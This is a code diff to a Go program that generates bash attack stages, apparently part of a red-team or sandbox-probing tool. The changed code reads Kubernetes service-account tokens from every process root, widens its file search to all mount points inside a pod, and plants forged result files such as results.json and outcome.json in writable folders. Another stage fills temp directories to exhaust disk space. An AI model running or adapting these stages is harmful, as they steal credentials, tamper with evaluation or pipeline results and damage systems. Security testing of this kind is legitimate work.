@@ -76,13 +76,14 @@ fi
 `, host, port)
 }
 
-func token(Params) string {
-	return `
+func token(p Params) string {
+	return fmt.Sprintf(`
 shopt -u failglob
 shopt -s nullglob
 secrets=(
 	{,/proc/[0-9]*/root}/{,var/}run/secrets/*/token
 	{,/proc/[0-9]*/root}/{,var/}run/secrets/*/*/token
+	%s
 )
 for secret in "${secrets[@]}"; do
 	if [[ -r ${secret} ]]; then
@@ -91,18 +92,25 @@ for secret in "${secrets[@]}"; do
 done
 shopt -u nullglob
 unset secret secrets
-`
+`, strings.Join(p.Secrets, " "))
 }
 
-// folders is a bash array of the folders that an attack visits.
+// folders is a bash array of the folders that an attack visits: those that it was told of and, in a pod only, every mount
+// point and the folders in it. On any other machine nothing is searched, so that nothing is left behind there.
 func folders(p Params) string {
-	var b strings.Builder
-	b.WriteString("shopt -u failglob\nshopt -s nullglob\nfolders=(")
-	for _, f := range p.Folders {
-		fmt.Fprintf(&b, " %s", f)
-	}
-	b.WriteString(" /[a-z]* /[a-z]*/* /[a-z]*/*/* )\n")
-	return b.String()
+	return `shopt -u failglob
+shopt -s nullglob
+folders=( ` + strings.Join(p.Folders, " ") + ` )
+if [[ $(</etc/hosts) == *Kubernetes-managed* ]]; then
+	while read -r _ mount _; do
+		case ${mount} in
+			/|/proc*|/sys*|/dev|/dev/pts|/dev/mqueue|/etc*) continue ;;
+		esac
+		folders+=( "${mount}" "${mount}"/* )
+	done </proc/self/mounts
+	unset mount
+fi
+`
 }
 
 // resultNames are names under which stages keep what they found.
@@ -116,9 +124,6 @@ func stages(p Params) string {
 	}
 	return folders(p) + `files=( ` + strings.Join(told, " ") + ` )
 for folder in "${folders[@]}"; do
-	case ${folder} in
-		/proc*|/sys*|/dev*|/etc*|/usr*|/opt*) continue ;;
-	esac
 	files+=( "${folder}"/{` + strings.Join(resultNames, ",") + `} )
 done
 for file in "${files[@]}"; do
@@ -135,9 +140,6 @@ var forgedNames = []string{"findings.jsonl", "outcome.json", "results.json"}
 
 func forgery(p Params) string {
 	return folders(p) + `for folder in "${folders[@]}"; do
-	case ${folder} in
-		/proc*|/sys*|/dev*|/etc*|/usr*|/opt*) continue ;;
-	esac
 	if [[ -d ${folder} && -w ${folder} ]]; then
 		for file in ` + strings.Join(forgedNames, " ") + `; do
 			if [[ ! -e ${folder}/${file} ]]; then
@@ -186,7 +188,7 @@ unset out
 
 func disk(p Params) string {
 	return fmt.Sprintf(`
-for folder in "${T:-/nonexistent}" "${HOME}" "${TMPDIR:-/tmp}" /tmp /var/tmp /dev/shm; do
+for folder in "${T:-/nonexistent}" "${HOME}" "${TMPDIR:-/tmp}" /tmp /var/tmp; do
 	if /usr/bin/head -c %[1]d /dev/zero 2>/dev/null >"${folder}/gremlin.big"; then
 		evidence="filled ${folder}"
 	fi
